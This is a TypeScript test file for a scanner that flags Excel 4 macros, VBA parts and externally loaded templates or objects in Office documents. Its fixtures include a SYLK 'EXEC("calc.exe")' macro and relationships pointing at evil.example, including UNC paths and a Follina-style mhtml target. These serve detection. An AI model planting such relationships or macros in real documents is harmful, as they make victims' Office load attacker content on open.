import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { analyzeOfficeXml } from '../../../src/core/office/office-xml.js';
import { analyzeOoxml } from '../../../src/core/office/ooxml.js';
import { analyzeSylk } from '../../../src/core/office/sylk.js';

const F = path.resolve(__dirname, '../../fixtures');

describe('SYLK', () => {
  it('finds the Auto_Open name and the macro-sheet functions of the oletools sample', () => {
    const report = analyzeSylk(readFileSync(path.join(F, 'office-oletools/excel4-macros/excel4_sample_macro.slk')));
    expect(report.autoNames).toEqual(['Auto_Open']);
    expect([...report.macroFunctions].sort()).toEqual(['ALERT', 'HALT']);
  });

  it('a SYLK of ordinary formulas is not macros; escaped semicolons do not split fields', () => {
    expect(analyzeSylk(Buffer.from('ID;PWXL;N;E\r\nC;Y1;X1;K2;ESUM(A2:A9)\r\nC;Y2;X1;K"a;;EEXEC(x)"\r\nE\r\n'))).toEqual({ autoNames: [], macroFunctions: [] });
    expect(analyzeSylk(Buffer.from('ID;P\r\nC;Y1;X1;K0;EEXEC("calc.exe")\r\n')).macroFunctions).toEqual(['EXEC']);
  });
});

describe('OOXML package', () => {
  it('finds macro sheets by folder and by content type, VBA parts by content type', () => {
    const types = '<Types><Override PartName="/xl/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/xl/other/s1.bin" ContentType="application/vnd.ms-excel.macrosheet"/></Types>';
    const report = analyzeOoxml(['xl/macrosheets/sheet1.xml', 'xl/other/s1.bin'], types, []);
    expect([...report.macroSheets].sort()).toEqual(['xl/macrosheets/sheet1.xml', 'xl/other/s1.bin']);
    expect(report.vbaParts).toEqual(['xl/vbaProject.bin']);
  });

  const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/';
  const rel = (id: string, type: string, target: string) => `<Relationship Id="${id}" Type="${type.includes('/') ? type : REL + type}" Target="${target}" TargetMode="External"/>`;
  const rels = (...r: string[]) => `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${r.join('')}</Relationships>`;

  it('reports an external attachedTemplate on another host and ignores external hyperlinks', () => {
    const xml = rels(rel('rId1', 'attachedTemplate', 'http://evil.example/t.dotm'), rel('rId2', 'hyperlink', 'https://example.com/'));
    const report = analyzeOoxml([], '', [{ name: 'word/_rels/settings.xml.rels', xml }]);
    expect(report.externalLoads).toEqual([
      { part: 'word/_rels/settings.xml.rels', type: 'attachedTemplate', target: 'http://evil.example/t.dotm', reach: { reach: 'remote', form: 'http', host: 'evil.example', intranet: false }, onOpen: true },
    ]);
  });

  it('a template or linked workbook on the author\'s disk is no external load (what Word writes for every template)', () => {
    const xml = rels(
      rel('rId1', 'attachedTemplate', 'file:///C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Templates\\Report.dotx'),
      rel('rId2', 'oleObject', 'file:///D:\\Data\\Book1.xlsx'),
      rel('rId3', 'subDocument', '../chapters/one.docx'),
      rel('rId4', 'externalLinkPath', '/Users/jkr/Budget.xlsx'),
    );
    expect(analyzeOoxml([], '', [{ name: 'word/_rels/settings.xml.rels', xml }]).externalLoads).toEqual([]);
  });

  it('reads every relationship type Office follows by itself, in transitional and strict namespaces', () => {
    const strict = 'http://purl.oclc.org/ooxml/officeDocument/relationships/';
    const xml = rels(
      rel('r1', 'oleObject', 'mhtml:http://203.0.113.5/x.html!x-usc:http://203.0.113.5/x.html'),
      rel('r2', 'subDocument', '\\\\evil.example\\s\\sub.docx'),
      rel('r3', 'frame', 'https://evil.example/frame.html'),
      rel('r4', 'image', 'file://evil.example/pixel.png'),
      rel('r5', `${strict}attachedTemplate`, 'https://evil.example/t.dotm'),
      rel('r6', 'http://schemas.microsoft.com/office/2006/relationships/xlExternalLinkPath/xlPathMissing', '\\\\evil.example@SSL\\b.xlsx'),
      rel('r7', 'externalLinkPath', 'https://evil.example/b.xlsx'),
      rel('r8', 'audio', 'https://evil.example/a.wav'),
    );
    const loads = analyzeOoxml([], '', [{ name: 'word/_rels/document.xml.rels', xml }]).externalLoads;
    expect(loads.map((l) => `${l.type} ${l.reach.reach}`)).toEqual(['oleObject remote', 'subDocument remote', 'frame remote', 'image remote', 'attachedTemplate remote', 'xlPathMissing remote', 'externalLinkPath remote']);
  });

  it('reads numeric character references in targets as Office does', () => {
    const xml = rels(rel('rId1', 'attachedTemplate', '&#92;&#x5C;evil.example&#92;s&#92;t.dotm'));
    expect(analyzeOoxml([], '', [{ name: 'word/_rels/settings.xml.rels', xml }]).externalLoads[0]?.reach).toMatchObject({ reach: 'remote', host: 'evil.example', form: 'UNC' });
  });

  it("a chart's source workbook is read on open only when the chart asks for c:autoUpdate", () => {
    const xml = rels(rel('rId1', 'oleObject', 'https://d.docs.live.net/4a1c/Documents/Date-categories.xlsx'));
    const chart = (update: string) => `<c:chartSpace><c:chart/><c:externalData r:id="rId1">${update}</c:externalData></c:chartSpace>`;
    const onOpen = (text: string | undefined) => analyzeOoxml([], '', [{ name: 'ppt/charts/_rels/chart1.xml.rels', xml }], (n) => (n === 'ppt/charts/chart1.xml' ? text : undefined)).externalLoads[0]?.onOpen;
    expect(onOpen(chart('<c:autoUpdate val="0"/>'))).toBe(false);
    expect(onOpen(chart(''))).toBe(false);
    expect(onOpen(chart('<c:autoUpdate val="1"/>'))).toBe(true);
    // A chart part that was not read is taken to update.
    expect(onOpen(undefined)).toBe(true);
    // Outside a chart, a linked object is followed on open (Follina's oleObject was).
    expect(analyzeOoxml([], '', [{ name: 'word/_rels/document.xml.rels', xml }]).externalLoads[0]?.onOpen).toBe(true);
  });
});

describe('Office XML (Word 2003 XML, Flat OPC)', () => {
  it('the clean corpus samples carry no macros; an editdata.mso or a vbaProject part does', () => {
    expect(analyzeOfficeXml(readFileSync(path.join(F, 'office-oletools/msodde/harmless-clean-2003.xml'))).macroContainers).toEqual([]);
    expect(analyzeOfficeXml(readFileSync(path.join(F, 'office-oletools/msodde/harmless-clean.xml'))).macroContainers).toEqual([]);
    expect(analyzeOfficeXml(Buffer.from('<?xml version="1.0"?><w:wordDocument xmlns:w="urn:schemas-microsoft-com:office:word"><w:binData w:name="editdata.mso">AAA=</w:binData>')).macroContainers).toEqual(['w:binData editdata.mso']);
    expect(analyzeOfficeXml(Buffer.from('<pkg:package><pkg:part pkg:name="/word/vbaProject.bin" pkg:contentType="application/vnd.ms-office.vbaProject">')).macroContainers).toEqual(['/word/vbaProject.bin']);
  });
});
